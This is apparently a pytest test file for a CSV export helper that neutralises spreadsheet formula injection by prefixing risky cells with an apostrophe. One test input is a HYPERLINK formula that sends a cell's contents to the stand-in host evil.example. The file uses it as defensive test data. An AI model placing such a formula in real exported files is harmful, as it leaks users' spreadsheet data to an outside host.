"""CSV that spreadsheets open safely."""

import csv
import io

import pytest

from core.spreadsheets import as_text, csv_answer


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Diya")',
        "+919876543210",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_no_cell_is_a_formula(cell):
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("value", "text"),
    [("Diya Patel", "Diya Patel"), ("a=b", "a=b"), ("", ""), (None, ""), (7, "7"), (" x", " x")],
)
def test_everything_else_stays_as_it_is(value, text):
    assert as_text(value) == text


def test_a_file_is_read_back_as_it_was_written():
    rows = [["Diya, Patel", 'the "one"'], ["two\nlines", "नंदिनी"]]
    answer = csv_answer("people", headings=["name", "note"], rows=rows)
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name", "note"], *rows]
    assert answer["Content-Disposition"] == 'attachment; filename="people.csv"'
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
